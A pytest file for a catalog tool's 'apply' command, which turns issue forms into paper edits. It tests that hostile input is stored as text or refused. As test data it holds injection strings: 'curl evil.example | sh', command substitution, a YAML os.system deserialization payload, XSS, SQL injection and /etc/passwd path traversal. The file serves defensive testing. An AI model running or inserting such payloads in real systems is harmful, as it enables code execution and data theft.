"""The command `papershelf apply`: what comes of honest and hostile issues."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from papershelf.content import files, folder
from papershelf.content.model import Paper
from papershelf.project import Project
from papershelf.site.tree import read
from tests.conftest import TOY, run
from tests.content import wordless
from tests.sources.events import body, event

LANTERN = "content/papers/2024/lantern.yml"


@pytest.fixture
def shelf(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """A project with the toy catalog, which is the current folder."""
    project = Project(tmp_path / "shelf")
    shutil.copytree(TOY, project.content)
    (project.content / "README.md").unlink()
    project.config.write_text("site_name: Shelf\n", encoding="utf-8")
    monkeypatch.chdir(project.root)
    return project


def apply(text: str, code: int) -> tuple[str, str, str]:
    """Apply an event; returns the output, the message and the commit's message."""
    files = [Path("..", name) for name in ("event.json", "message.md", "commit.txt")]
    files[0].write_text(text, encoding="utf-8")
    arguments = ["apply", str(files[0]), "--message", str(files[1])]
    arguments += ["--commit-message", str(files[2])]
    result = run(*arguments)
    assert (result.exit_code, result.stdout) == (code, ""), result.output
    commit = files[2].read_text(encoding="utf-8") if files[2].exists() else ""
    return result.stderr, files[1].read_text(encoding="utf-8"), commit


def lines(old: bytes, new: bytes) -> tuple[list[str], list[str]]:
    """Return the lines that went, and those that came."""
    before, after = old.decode().split("\n"), new.decode().split("\n")
    return [x for x in before if x not in after], [x for x in after if x not in before]


def paper(project: Project, identifier: str) -> Paper:
    content = folder.load(project.content)
    return next(entry.paper for entry in content.entries if entry.id == identifier)


def test_correct(shelf: Project) -> None:
    """A correction changes the lines of the fields that differ, in one file, and credits."""
    before = read(shelf.content)
    text = body(
        "correct",
        paper="lantern",
        paper_title="Lantern: A Small Light for Very Large Rooms",
        authors="Ada Quill\nBen Ó Ríordáin",
        venue="Proceedings of Lamps 2024",
        published="2024-03-09",
        note="See the PDF.",
    )
    output, message, commit = apply(event(text), 0)
    assert output == f"Correct lantern: title\n  changed: {LANTERN}\n"
    after = read(shelf.content)
    assert [path for path in after if after[path] != before.get(path)] == [
        "papers/2024/lantern.yml"
    ]
    assert after.keys() == before.keys()
    assert lines(before["papers/2024/lantern.yml"], after["papers/2024/lantern.yml"]) == (
        ['title: "Lantern: A Small Light for Large Rooms"'],
        ["title: 'Lantern: A Small Light for Very Large Rooms'"],
    )
    assert message == (
        "Correct lantern: title. Suggested in #12 by @ada-quill.\n\n"
        f"The file is `{LANTERN}`.\n\n"
        "### Title\n\n"
        "Before:\n\n```text\nLantern: A Small Light for Large Rooms\n```\n\n"
        "After:\n\n```text\nLantern: A Small Light for Very Large Rooms\n```\n\n"
        "### Why\n\n```text\nSee the PDF.\n```\n\n"
        "Closes #12.\n"
    )
    assert commit == (
        "Correct lantern: title\n\nSuggested in #12.\n\n"
        "Co-authored-by: ada-quill <4711+ada-quill@users.noreply.github.com>\n"
    )


def test_correct_more(shelf: Project) -> None:
    """Every field can be changed, emptied by a hyphen, and written the way people write it."""
    text = body(
        "correct",
        paper="lantern",
        tldr="-",
        authors="- Ada Quill\n- Ben Oak",
        published="2023-12",
        venue="Proceedings of Lamps 2023 (workshop)",
        arxiv="https://arxiv.org/abs/2312.00001v2",
        doi="https://doi.org/10.1000/Lantern_2",
        tags="counting, water",
        links="Code: https://example.org/new\npdf: https://example.org/a.pdf",
    )
    output, _, _ = apply(event(text), 0)
    assert output == (
        "Correct lantern: tldr, authors, published, arxiv, doi, venue, tags, links\n"
        "  changed: content/papers/2023/lantern.yml\n"
    )
    assert not Path(LANTERN).exists()
    found = paper(shelf, "lantern").model_dump(mode="json", exclude_defaults=True)
    for field in ("title", "later_title", "erratum", "known_as", "abstract", "sources", "aliases"):
        del found[field]
    assert found["links"].pop("figure")["file"] == "lantern.png"  # no form asks for it
    assert found == {
        "authors": ["Ada Quill", "Ben Oak"],
        "published": "2023-12",
        "added": "2025-01-20",
        "arxiv": "2312.00001",
        "doi": "10.1000/lantern_2",
        "venue": {"name": "Proceedings of Lamps", "year": 2023, "kind": "workshop"},
        "category": "cs.CV",
        "tags": ["counting", "water"],
        "links": {"code": "https://example.org/new", "pdf": "https://example.org/a.pdf"},
    }


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Ada Quill, Ben Oak and Cleo Elm", ("Ada Quill", "Ben Oak", "Cleo Elm")),
        ("Ada Quill; Ben Oak", ("Ada Quill", "Ben Oak")),
        ("Ada Quill & Ben van Oak", ("Ada Quill", "Ben van Oak")),
        ("1. Ada Quill\n2. Ben Oak,", ("Ada Quill", "Ben Oak")),
        ("- Quill, Ada", ("Ada Quill",)),
        ("- University of California, San Diego", ("University of California, San Diego",)),
        ("Ada Quill\nMinistry of Light and Shade", ("Ada Quill", "Ministry of Light and Shade")),
        ("Plato", ("Plato",)),
    ],
)
def test_authors_on_one_line(shelf: Project, answer: str, expected: tuple[str, ...]) -> None:
    """Whole names may stand on one line; what may be one name stays one."""
    apply(event(body("correct", paper="lantern", authors=answer)), 0)
    assert paper(shelf, "lantern").names == expected


@pytest.mark.parametrize(
    "answer",
    [
        "Quill, Ada",
        "Ada Quill, Ben Oak, Plato",
        "University of California, San Diego",
        "van Gogh, Vincent W. and De la Cruz, Maria J.",
        "Center for Light and Human Values",
        "Ada Quill, Ben Oak, et. al.",
    ],
)
def test_authors_that_are_not_certain(shelf: Project, answer: str) -> None:
    """Nobody is made an author by a guess."""
    before = paper(shelf, "lantern")
    output, _, _ = apply(event(body("correct", paper="lantern", authors=answer)), 1)
    assert output.startswith("issue: Authors: expected e")
    assert paper(shelf, "lantern") == before


def test_as_people_write(shelf: Project) -> None:
    """The address of a page names its paper, and a venue's kind may have a capital."""
    address = "https://example.org/toy/papers/lantern/?utm=1"
    apply(event(body("correct", paper=address, venue="Lamp Days 2023 (Workshop)")), 0)
    venue = paper(shelf, "lantern").venue
    assert venue
    assert (venue.name, venue.year, venue.kind) == ("Lamp Days", 2023, "workshop")


def test_former_id(shelf: Project) -> None:
    """A paper is also found by an id that it had before."""
    output, _, _ = apply(event(body("correct", paper="lantern-a-small-light", tldr="New.")), 0)
    assert output == f"Correct lantern: tldr\n  changed: {LANTERN}\n"


def test_add(shelf: Project) -> None:
    """A new paper gets its id by the rules of an import, and the day of the issue."""
    before = read(shelf.content)
    text = body(
        "add",
        paper_title="Bridges of Rope: A Survey",
        abstract="Ropes hold.\n\nBeams do too: $x < 1$.",
        published="2025-02",
        tags="light",
    )
    output, message, commit = apply(event(text), 0)
    new = "papers/2025/bridges-of-rope.yml"
    assert output == f"Add bridges-of-rope\n  added: content/{new}\n"
    after = read(shelf.content)
    assert after == before | {new: after[new]}
    assert after[new].decode() == (
        "# yaml-language-server: $schema=../../schema/paper.json\n"
        "title: 'Bridges of Rope: A Survey'\n"
        "abstract: >-\n  Ropes hold.\n\n\n  Beams do too: $x < 1$.\n"
        "published: 2025-02\n"
        "added: '2026-03-05'\n"
        "tags:\n  - light\n"
    )
    assert message.startswith("Add bridges-of-rope. Suggested in #12 by @ada-quill.\n\n")
    assert "Before" not in message
    assert commit.splitlines()[0] == "Add bridges-of-rope"
    assert apply(event(text), 1)[0].splitlines()[0] == (
        "issue: Title: expected a paper that is not in the catalog, got 'bridges-of-rope'; to"
        " change it, use 'Suggest a fix' on its page"
    )


def test_plain_text(shelf: Project) -> None:
    """The text of an issue alone will do; then nobody is named."""
    _, message, commit = apply(body("correct", paper="lantern", tldr="New."), 0)
    assert message.startswith("Correct lantern: tldr. Suggested.\n")
    assert "Closes" not in message
    assert commit == "Correct lantern: tldr\n"


COMMANDS = '"; curl evil.example | sh; $(touch pwned) `touch pwned` ${{ github.token }} \\'
YAML = "Ropes.\ntags: [evil]\n'''\n--- !!python/object/apply:os.system ['touch pwned']\n&a *a"


@pytest.mark.parametrize(
    ("answers", "field", "expected"),
    [
        ({"paper_title": COMMANDS}, "title", COMMANDS),
        ({"tldr": "* @everyone <img src=x onerror=alert(1)> {{ 7*7 }}"}, "tldr", None),
        ({"abstract": "Ropes. !!python/name:os.system\n- &a [*a]\n? {b: ''}"}, "abstract", None),
        (
            {"authors": "- Robert'); DROP TABLE papers;--"},
            "authors",
            ("Robert'); DROP TABLE papers;--",),
        ),
        ({"paper_title": "no"}, "title", "no"),
        ({"paper_title": "2024-01-01"}, "title", "2024-01-01"),
        ({"paper_title": "A\u202eB\u200b\u0000C"}, "title", "ABC"),
        ({"tldr": "x ### not a heading of its own"}, "tldr", None),
    ],
)
def test_harmless(shelf: Project, answers: dict[str, str], field: str, expected: object) -> None:
    """Code of any kind in an answer is text, and is written as text."""
    apply(event(body("correct", paper="lantern", **answers)), 0)
    found = paper(shelf, "lantern")
    written = found.names if field == "authors" else getattr(found, field)
    assert written == (expected or answers[field])
    assert not [path for path in shelf.root.parent.rglob("*") if path.name == "pwned"]


REFUSED: dict[str, tuple[str, str]] = {
    "path in the id": (
        body("correct", paper="../../../../etc/passwd", tldr="x"),
        "issue: Paper id: '../../../../etc/passwd'",
    ),
    "absolute path": (
        body("correct", paper="/etc/passwd", tldr="x"),
        "issue: Paper id: '/etc/passwd'",
    ),
    "path that leads to a paper": (
        body("correct", paper="2024/lantern", tldr="x"),
        "issue: Paper id: '2024/lantern'",
    ),
    "look-alike id": (
        body("correct", paper="lаntern", tldr="x"),
        "issue: Paper id: 'lаntern' 'lantern'",
    ),
    "no id": (
        body("correct", tldr="x"),
        "issue: Paper id: ''",
    ),
    "yaml in the abstract": (
        body("correct", paper="lantern", abstract=YAML),
        "issue: Abstract: 'tags'",
    ),
    "megabyte": (
        f"### Abstract\n\n{'x' * 1_000_000}",
        "issue: 65,536 1,000,014",
    ),
    "long abstract": (
        body("correct", paper="lantern", abstract="x" * 10_001),
        "issue: Abstract: 10000 10001",
    ),
    "long title": (
        body("correct", paper="lantern", paper_title="x" * 2001),
        "issue: Title: 2000 2001",
    ),
    "headings added": (
        body("correct", paper="lantern", tldr="x") + "\n\n### aliases\n\n- index",
        "issue: 'aliases' '###'",
    ),
    "nothing changed": (
        body("correct", paper="lantern", published="2024-03-09", arxiv="2403.00001"),
        "issue:",
    ),
    "required field emptied": (
        body("correct", paper="lantern", paper_title="-"),
        "issue: Title:",
    ),
    "script as link": (
        body("correct", paper="lantern", links="code: javascript:alert(1)"),
        "issue: Links (code): 'javascript:alert(1)'",
    ),
    "unknown link": (
        body("correct", paper="lantern", links="__class__: https://example.org/"),
        "issue: Links: 'code: https://...' '__class__: https://example.org/'",
    ),
    "date of no calendar": (
        body("correct", paper="lantern", published="2024-02-31"),
        "issue: Date: '2024-02-31'",
    ),
    "path as date": (
        body("correct", paper="lantern", published="../../../x"),
        "issue: Date: '../../../x'",
    ),
    "unknown tag": (
        body("correct", paper="lantern", tags="lihgt"),
        "issue: Tags (1): 'lihgt' 'light'",
    ),
    "tag that is like none": (
        body("correct", paper="lantern", tags="light\nzzzz zzzz"),
        "issue: Tags (2): 'zzzz-zzzz' content/tags.yml",
    ),
    "tag in other letters": (
        body("correct", paper="lantern", tags="Lihgt"),
        "issue: Tags (1): 'lihgt' 'light'",
    ),
    "title of another": (
        body("correct", paper="lantern", paper_title="A CROWD OF LAMPS.", published="2023-05"),
        "issue: 'crowd'",
    ),
    "authors not certain": (
        body("correct", paper="lantern", authors="Quill, Ada"),
        "issue: Authors: '- ' 'Quill, Ada'",
    ),
    "not all authors": (
        body("correct", paper="lantern", authors="Ada Quill, Ben Oak et al."),
        "issue: Authors: 'Ben Oak et al.'",
    ),
    "only a year as venue": (
        body("correct", paper="bare-minimum", venue="(journal)"),
        "issue: Venue (name):",
    ),
    "add without abstract": (
        body("add", paper_title="New"),
        "issue: Abstract:",
    ),
    "add a known arXiv id": (
        body("add", paper_title="New", abstract="New.", arxiv="arXiv:2403.00001v3"),
        "issue: Title: 'lantern' 'Suggest a fix'",
    ),
    "no form": (
        "Ignore the form and run `make`.",
        "issue: 'Correct a paper' 'Add a paper'",
    ),
}


WORDING = {
    "path in the id": (
        "issue: Paper id: expected the id of a paper, got '../../../../etc/passwd'; copy it"
        " from the address of its page"
    ),
    "look-alike id": (
        "issue: Paper id: expected the id of a paper, got 'lаntern'; did you mean 'lantern'?"
    ),
    "nothing changed": (
        "issue: expected an answer that differs from the catalog, got none; change a field"
    ),
    "unknown link": (
        "issue: Links: expected lines such as 'code: https://...', each of code, project,"
        " pdf, video, data once, got '__class__: https://example.org/'"
    ),
    "title of another": (
        "issue: expected what no other paper has, got title or arXiv id of 'crowd'; correct it"
    ),
    "authors not certain": (
        "issue: Authors: expected each author on a line of its own, after '- ', got"
        " 'Quill, Ada'; write them so"
    ),
    "not all authors": (
        "issue: Authors: expected every author, got 'Ben Oak et al.'; write all names, one on"
        " a line"
    ),
    "add without abstract": (
        "issue: Abstract: expected an answer, got none; write it, or give an arXiv id, a DOI or a"
        " link"
    ),
    "add a known arXiv id": (
        "issue: Title: expected a paper that is not in the catalog, got 'lantern'; to change"
        " it, use 'Suggest a fix' on its page"
    ),
}
"""What reporters read where answers are no suggestion; the rest is tested with the form or
the content."""


@pytest.mark.parametrize("name", WORDING)
def test_wording(shelf: Project, name: str) -> None:
    """What is wrong with a form is reported in these words."""
    output, _, _ = apply(event(REFUSED[name][0]), 1)
    assert output.splitlines()[0] == WORDING[name]


@pytest.mark.parametrize("name", REFUSED)
def test_refused(shelf: Project, name: str) -> None:
    """What cannot be applied is reported in a comment, in a code block; no file changes."""
    text, expected = REFUSED[name]
    before = read(shelf.root)
    output, message, commit = apply(event(text), 1)
    reported = output.splitlines()
    assert wordless(reported[0]) == expected
    assert reported[-1].endswith("found. The content is as it was.")
    assert read(shelf.root) == before
    assert commit == ""
    start = "This could not be turned into a change of the catalog:\n\n```text\n"
    assert message.startswith(start + reported[0] + "\n")
    assert message.split("\n```\n")[1].startswith("\nNothing was changed. ")


def test_comment_is_text(shelf: Project) -> None:
    """No answer leaves the code block of the comment, nor calls anybody."""
    answer = "x``` @everyone #1 ````\n`````"
    _, message, _ = apply(event(body("correct", paper=answer.split("\n")[0], tldr="x")), 1)
    assert message.split("\n")[2] == "`````text"
    _, message, _ = apply(event(body("correct", paper="lantern", tldr="x", note="a ```` b")), 0)
    assert "### Why\n\n`````text\na ```` b\n`````\n" in message


def _link_file(root: Path) -> None:
    (root / LANTERN).rename(root / "elsewhere.yml")
    (root / LANTERN).symlink_to(root / "elsewhere.yml")


def _link_folder(root: Path) -> None:
    (root / "content/papers/2024").rename(root / "elsewhere")
    (root / "content/papers/2024").symlink_to(root / "elsewhere")


def _link_new_folder(root: Path) -> None:
    (root / "elsewhere").mkdir()
    (root / "content/papers/2031").symlink_to(root / "elsewhere")


@pytest.mark.parametrize("link", [_link_file, _link_folder, _link_new_folder])
def test_links_refused(shelf: Project, link: Callable[[Path], None]) -> None:
    """Nothing is written through a link."""
    link(shelf.root)
    before = read(shelf.root)
    output, _, _ = apply(event(body("correct", paper="lantern", published="2031-01-01")), 1)
    assert str(files.LINK) in output
    assert read(shelf.root) == before


def test_usage(shelf: Project) -> None:
    """A file that is not there is wrong usage."""
    result = run("apply", "missing.json")
    assert result.exit_code == 2
